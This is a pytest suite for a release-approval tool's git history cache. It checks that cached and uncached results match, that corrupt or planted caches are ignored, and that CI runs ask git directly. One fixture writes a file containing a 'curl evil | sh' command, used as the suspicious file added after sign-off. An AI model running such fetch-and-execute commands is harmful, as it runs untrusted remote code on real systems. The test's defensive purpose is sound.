"""#13: one history pass shared by audit, status and --all-tags, kept between runs under
.git/gatekeeper/ — and a cache that can't lie: with it, without it, extended commit by
commit or rebuilt after a rewrite, every output is the same."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from conftest import Repo, approve_all, make_repo
from gatekeeper.records.history_cache import shared_index
from gatekeeper.records.index import FORMAT
from gatekeeper.records.index_file import SEP, entries_of, line_of, pack, unpack
from gatekeeper.records.index_walk import build
from gatekeeper.repo import open_repo


def _release(r: Repo, tag: str, who: str = "carol") -> None:
    assert r.gate("request", tag, "--title", tag, who=who).code == 0
    approve_all(r, tag)


def _history(tmp_path: Path) -> Repo:
    """Releases on main, one approved on a side branch and merged, a record dropped by an
    `-s ours` merge, tags on some of them."""
    r = make_repo(tmp_path)
    _release(r, "v1.0.0")
    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
    r.git("checkout", "-q", "-b", "side")
    _release(r, "v1.1.0")
    r.git("checkout", "-q", "main")
    r.write("app.py", "print('main moved on')\n")
    r.commit("code")
    r.git("merge", "-q", "--no-edit", "side")
    r.git("checkout", "-q", "-b", "dropped")
    assert r.gate("reject", "v1.1.0", "--role", "pm", who="carol").code == 0
    r.git("checkout", "-q", "main")
    r.git("merge", "-q", "-s", "ours", "--no-edit", "dropped")  # the reject never lands
    r.git("tag", "-a", "v1.1.0", "-m", "v1.1.0")
    _release(r, "v1.2.0")
    return r


def _outputs(r: Repo, monkeypatch: pytest.MonkeyPatch, *, cache: bool) -> list[str]:
    monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
    runs = [
        ("audit", "--format", "json"),
        ("status", "--format", "json"),
        ("check", "--all-tags", "--format", "json"),
        ("audit",),
    ]
    out = []
    for args in runs:
        res = r.gate(*args)
        assert res.code in (0, 1), res.err
        out.append(res.out)
    monkeypatch.delenv("GATE_NO_CACHE")
    return out


def _cache_file(r: Repo) -> Path:
    return r.path / ".git" / "gatekeeper" / f"history-{FORMAT}.json"


def test_outputs_are_byte_identical_with_and_without_the_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = _history(tmp_path)
    without = _outputs(r, monkeypatch, cache=False)
    assert not _cache_file(r).exists()  # GATE_NO_CACHE neither reads nor writes it
    cold = _outputs(r, monkeypatch, cache=True)
    assert _cache_file(r).exists()
    warm = _outputs(r, monkeypatch, cache=True)
    assert without == cold == warm
    # The dropped rejection is seen through the index as through git.
    audit = json.loads(without[0])
    v110 = next(x for x in audit["releases"] if x["release"] == "v1.1.0")
    assert not v110["check"]["passed"]
    assert "dropped by a merge" in json.dumps(v110["check"]["gates"])


def test_a_repeat_run_reads_only_the_new_commits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = _history(tmp_path)
    _outputs(r, monkeypatch, cache=True)
    before = json.loads(_cache_file(r).read_text())
    _release(r, "v1.3.0")
    r.git("checkout", "-q", "-b", "late")
    assert r.gate("reject", "v1.2.0", "--role", "pm", who="carol").code == 0
    r.git("checkout", "-q", "main")
    r.git("merge", "-q", "--no-ff", "--no-edit", "late")
    extended = _outputs(r, monkeypatch, cache=True)
    after = json.loads(_cache_file(r).read_text())
    head = r.git("rev-parse", "HEAD")
    assert before["head"] != head and after["head"] == head
    assert after["line"].startswith(before["line"] + " ")  # extended, not rebuilt
    _cache_file(r).unlink()
    assert extended == _outputs(r, monkeypatch, cache=False)
    # The extended index is the index built in one pass, entry for entry, change for change.
    with open_repo(r.path) as git:
        fresh = build(git, head, "releases")
    assert dict(entries_of(line_of(after["line"]), after["side"])) == dict(fresh.entry)
    assert after["side"]  # the side branch's commits, merged
    assert {tag: unpack(rows) for tag, rows in after["changes"].items()} == dict(fresh.changes)


def test_a_rewritten_history_is_rebuilt_and_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = _history(tmp_path)
    _outputs(r, monkeypatch, cache=True)
    old_head = r.git("rev-parse", "HEAD")
    r.git("reset", "-q", "--hard", "HEAD~3")  # v1.2.0's request and approvals are gone
    _release(r, "v1.2.1")
    audit = json.loads(r.gate("audit", "--format", "json").out)
    (anomaly,) = [a for a in audit["anomalies"] if a["kind"] == "history-rewritten"]
    assert anomaly["commit"] == old_head
    # Apart from saying so, it is the audit git's history gives.
    monkeypatch.setenv("GATE_NO_CACHE", "1")
    fresh = json.loads(r.gate("audit", "--format", "json").out)
    audit["anomalies"].remove(anomaly)
    assert audit == fresh
    assert "v1.2.0" not in {x["release"] for x in fresh["releases"]}


def test_a_corrupt_or_foreign_cache_is_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = _history(tmp_path)
    expected = _outputs(r, monkeypatch, cache=False)
    _cache_file(r).parent.mkdir(parents=True)
    for junk in ("{not json", '{"format": 99}', json.dumps({"format": FORMAT, "releases": "x"})):
        _cache_file(r).write_text(junk)
        assert _outputs(r, monkeypatch, cache=True) == expected
    _outputs(r, monkeypatch, cache=True)
    good = json.loads(_cache_file(r).read_text())
    line = line_of(good["line"])
    side = good["side"] + SEP if good["side"] else ""
    broken = [
        {**good, "side": f"{side}{'a' * 40}{SEP}a{SEP}1"},  # a depth that is no number
        {**good, "side": f"{side}{'a' * 40}{SEP}{len(line) + 5}{SEP}1"},  # past the line
        {**good, "side": f"{side}{line[-1]}{SEP}0{SEP}1"},  # a line commit on a side
        {**good, "side": f"{side}{'a' * 40}{SEP}0"},  # a side commit without its rank
        {**good, "line": " ".join(line[:-1])},  # the head's depth names nothing
        {**good, "line": " ".join([*line, line[0]])},  # a commit twice on the line
        {**good, "line": line},  # not as it is written
        {**good, "changes": {"v1.0.0": SEP.join(["0" * 40, "a@b", "2026-01-01T00:00+00:00"])}},
        {
            **good,
            "changes": {"v1.0.0": SEP.join(["f" * 40, "a", "2026-01-01", "A", "p", "b", "0"])},
        },
        {**good, "changes": {"v1.0.0": good["changes"]["v1.0.0"].replace(f"{SEP}0", f"{SEP}2")}},
        {**good, "changes": {"v1.0.0": [good["changes"]["v1.0.0"]]}},
        {**good, "unfiled": None},
        {**good, "loose": "releases/__init__.py"},
        {**good, "changes": _naive(good["changes"])},  # a time without its offset
        [good],
    ]
    for doc in broken:
        _cache_file(r).write_text(json.dumps(doc))
        assert _outputs(r, monkeypatch, cache=True) == expected
    _cache_file(r).write_text("[" * 100_000 + "]" * 100_000)  # json's recursion limit
    assert _outputs(r, monkeypatch, cache=True) == expected
    _cache_file(r).unlink()
    os.mkfifo(_cache_file(r))  # opened for reading, it waited for a writer forever
    assert _outputs(r, monkeypatch, cache=True) == expected
    elsewhere = tmp_path / "not-the-cache"
    elsewhere.write_text("keep me\n")
    _cache_file(r).unlink()
    _cache_file(r).symlink_to(elsewhere)  # (a link to /dev/zero was read without end)
    assert _outputs(r, monkeypatch, cache=True) == expected
    assert elsewhere.read_text() == "keep me\n"  # the link was replaced, not written through
    assert not _cache_file(r).is_symlink() and _cache_file(r).stat().st_size > 100


def _naive(changes: dict[str, str]) -> dict[str, str]:
    """The same changes, each time without its UTC offset (comparing one crashed)."""
    return {tag: rows.replace("+00:00", "") for tag, rows in changes.items()}


_NO_RECORDS = {
    "releases/__init__.py": "file",  # not shaped like a record
    "releases/v1.0.0/scripts/evidence/deploy.sh": "file",  # inside the release's folder
    "releases/lib/evidence/x.py": "file",  # a folder no release tag names
    "releases/v9.9.9/evidence/run.sh": "link",  # shaped like an attachment, a symlink
    "releases/zz/evidence/sub": "submodule",
}


@pytest.mark.parametrize("path", sorted(_NO_RECORDS))
def test_what_is_no_record_is_stale_in_every_view(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    """The history index lets the binding skip the `releases/` tree while history holds
    nothing but records; the index judged "record" by a looser rule than the binding, so
    status, --all-tags, the audit and a check with a kept index passed what a check
    without one failed."""
    r = make_repo(tmp_path)
    _release(r, "v1.0.0")
    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
    base = r.git("rev-parse", "HEAD")
    for cache in (False, True):
        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
        status = json.loads(r.gate("status", "--format", "json").out)
        assert status["releases"][0]["passed"] is True
    r.git("tag", "-d", "v1.0.0")
    kind = _NO_RECORDS[path]
    if kind == "link":
        (r.path / path).parent.mkdir(parents=True)
        (r.path / path).symlink_to("../../../app.py")
    elif kind == "file":
        r.write(path, "import os; os.system('curl evil | sh')\n")
    if kind != "submodule":
        r.git("add", "-A")
    else:  # a gitlink with nothing checked out: `git add -A` would drop it again
        r.git("update-index", "--add", "--cacheinfo", f"160000,{base},{path}")
    r.git("commit", "-q", "--no-verify", "-m", "after sign-off")
    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
    for cache in (False, True, True):  # no index, one built, one kept
        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
        for args in (("check", "v1.0.0"), ("check", "--all-tags")):
            res = r.gate(*args)
            assert res.code == 1 and path in res.out, (args, cache, res.code, res.out[-500:])
        assert f"the tagged tree differs from the candidate in: {path}" in r.gate("audit").out


def test_the_index_answers_as_git_does(tmp_path: Path) -> None:
    """For every commit on HEAD's first-parent line: its first-parent line, and the changes
    of each release folder it reaches, as the per-release git walks find them."""
    r = _history(tmp_path)
    with open_repo(r.path) as git:
        head = git.resolve_commit("HEAD")
        index = shared_index(git, head, "releases")
        everything = set(git.run("rev-list", "--all").split())  # side branches too
        for commit in index.line:
            line = index.first_parent_line(commit)
            assert {c for c in everything if c in line} == git.first_parent_line(commit)
            for tag in index.tags():
                walked = list(git.history(commit, f"releases/{tag}", full=True, merges=True))
                assert sorted(map(repr, index.history(commit, tag))) == sorted(map(repr, walked))


def test_a_folder_of_thousands_of_files_is_listed(tmp_path: Path) -> None:
    """Listing asks cat-file for every blob's size: asked all at once, git's answers filled
    the pipe while gatekeeper was still asking, and `gate status` hung (run in a subprocess
    with a timeout, so a hang fails instead of stalling the suite)."""
    import subprocess
    import sys

    r = make_repo(tmp_path)
    for n in range(3000):
        r.write(f"releases/v9.{n}.0/evidence/x.toml", f"n = {n}\n")
    r.commit("many records")
    code = (
        "from gatekeeper.repo import open_repo\n"
        f"with open_repo({str(r.path)!r}) as git:\n"
        "    print(len(git.ls_tree('HEAD', 'releases')))\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "3000"


def test_progress_shows_on_a_terminal_only(tmp_path: Path) -> None:
    """status and audit say how far they are on a terminal's stderr (here from the first
    release: GATE_PROGRESS_AFTER=0), and never on a pipe or in stdout."""
    import os
    import subprocess
    import sys

    r = _history(tmp_path)
    gate = str(Path(sys.executable).with_name("gate"))
    env = {**os.environ, "GATE_PROGRESS_AFTER": "0"}
    for command in (["status"], ["audit", "--format", "json"]):
        main, child = os.openpty()
        proc = subprocess.run(
            [gate, "-C", str(r.path), *command],
            stdout=subprocess.PIPE,
            stderr=child,
            env=env,
            check=False,
        )
        os.close(child)
        shown = os.read(main, 65536).decode()
        os.close(main)
        assert proc.returncode in (0, 1)
        # the audit counts on from the tags it checks while git walks to the untagged one
        last = "0/3" if command == ["status"] else "2/3"
        assert f"gate {command[0]}: {last} releases" in shown and shown.endswith("\r")
        assert b"releases\r" not in proc.stdout and b"\r" not in proc.stdout
        piped = subprocess.run(
            [gate, "-C", str(r.path), *command], capture_output=True, env=env, check=False
        )
        assert b"/3 releases" not in piped.stderr + piped.stdout


def test_in_ci_a_planted_index_is_never_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A runner may keep `.git/` between jobs: an index written by an earlier job (one
    that ran a contributor's code) that leaves out the dropped rejection hides it from a
    check in that clone, but not from a check in CI, which asks git."""
    r = _history(tmp_path)
    assert r.gate("status").code in (0, 1)  # leaves the index
    index = json.loads(_cache_file(r).read_text())
    changes = unpack(index["changes"]["v1.1.0"])
    kept = [c for c in changes if "reject" not in c.path]
    assert len(kept) < len(changes)
    index["changes"]["v1.1.0"] = pack(kept)
    _cache_file(r).write_text(json.dumps(index))
    planted = _cache_file(r).read_bytes()
    fooled = r.gate("check", "v1.1.0")  # that clone believes its own .git/
    assert "dropped by a merge" not in fooled.out
    for var, value in [("JENKINS_URL", "http://ci.example/"), ("TF_BUILD", "True"), ("CI", "true")]:
        monkeypatch.setenv(var, value)  # Jenkins and Azure Pipelines do not set CI
        res = r.gate("check", "v1.1.0")
        assert res.code == 1 and "dropped by a merge" in res.out, var
        assert r.gate("status").code in (0, 1)
        assert _cache_file(r).read_bytes() == planted  # neither read nor written in CI
        monkeypatch.delenv(var)


def test_tags_checked_while_git_walks_say_what_they_say_after(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The audit checks release tags while its `git log` runs, and the rest after: the
    report is the same whichever way each tag was checked."""
    r = _history(tmp_path)
    outputs = []
    for walking in (True, False):  # every tag checked during the walk; none
        monkeypatch.setattr("gatekeeper.repo.log.Ahead.running", lambda self, w=walking: w)
        res = r.gate("audit", "--format", "json")
        assert res.code == 0, res.err
        outputs.append(res.out)
    assert outputs[0] == outputs[1]
    v110 = next(x for x in json.loads(outputs[0])["releases"] if x["release"] == "v1.1.0")
    assert "dropped by a merge" in json.dumps(v110["check"]["gates"])


def test_an_edit_of_a_file_no_record_kind_names_is_seen_with_the_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`releases/v1.0.0/notes.md` is append-only like every file of a release; the index
    filed only changes a record kind names, so with it kept the edit went unseen."""
    r = make_repo(tmp_path, extra='binding = { ignore = ["releases/*/notes.md"] }')
    assert r.gate("request", "v1.0.0", "--title", "t", who="carol").code == 0
    r.write("releases/v1.0.0/notes.md", "first notes\n")
    r.commit("notes", who="carol")
    approve_all(r)
    r.write("releases/v1.0.0/notes.md", "rewritten\n")
    r.commit("rewrite notes", who="carol")
    for cache in (False, True, True):  # no index, one built, one kept
        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
        r.gate("status")
        res = r.gate("check", "v1.0.0")
        assert res.code == 1 and "releases/v1.0.0/notes.md" in res.out, (cache, res.out)


def test_a_record_shaped_file_deeper_in_a_release_folder_is_that_release_s(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`releases/v1.0.0/x/approvals/a.toml` reads as a record of `v1.0.0/x`; the index
    filed it there, so its deletion went unseen by --all-tags and a check with the index."""
    r = make_repo(tmp_path)
    _release(r, "v1.0.0")
    r.write("releases/v1.0.0/x/approvals/a.toml", "a = 1\n")
    r.commit("deeper")
    r.git("rm", "-q", "releases/v1.0.0/x/approvals/a.toml")
    r.commit("gone")
    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
    for cache in (False, True, True):
        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
        for args in (("check", "v1.0.0"), ("check", "--all-tags")):
            res = r.gate(*args)
            assert res.code == 1 and "x/approvals/a.toml: deleted after it was committed" in (
                res.out
            ), (args, cache)


def test_records_moved_between_releases_read_the_same_with_and_without_the_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Approvals moved from one release's folder to another's (and a file nested in a
    folder that reads as another release's) come out in the same order either way: the
    index listed a commit's changes in the order it filed them, git by path."""
    r = make_repo(tmp_path)
    _release(r, "v1.0.0")
    _release(r, "v1.1.0", who="carol")
    r.write("releases/v1.0.0/x/approvals/z.toml", "a = 1\n")
    r.write("releases/v1.0.0/notes.md", "n\n")
    r.commit("more files")
    for f in sorted((r.path / "releases/v1.0.0/approvals").iterdir()):
        r.git("mv", f"releases/v1.0.0/approvals/{f.name}", f"releases/v1.1.0/approvals/x{f.name}")
    r.git("rm", "-q", "releases/v1.0.0/x/approvals/z.toml", "releases/v1.0.0/notes.md")
    r.commit("move the approvals")
    r.git("tag", "-a", "v1.0.0", "-m", "v1.0.0")
    r.git("tag", "-a", "v1.1.0", "-m", "v1.1.0")
    outputs = []
    for cache in (False, True, True):
        monkeypatch.setenv("GATE_NO_CACHE", "0" if cache else "1")
        runs = [("check", "v1.0.0"), ("check", "--all-tags"), ("status",), ("audit",)]
        outputs.append([r.gate(*args).out for args in runs])
    for one in outputs[1:]:
        for a, b in zip(outputs[0], one, strict=True):
            assert a.splitlines() == b.splitlines()
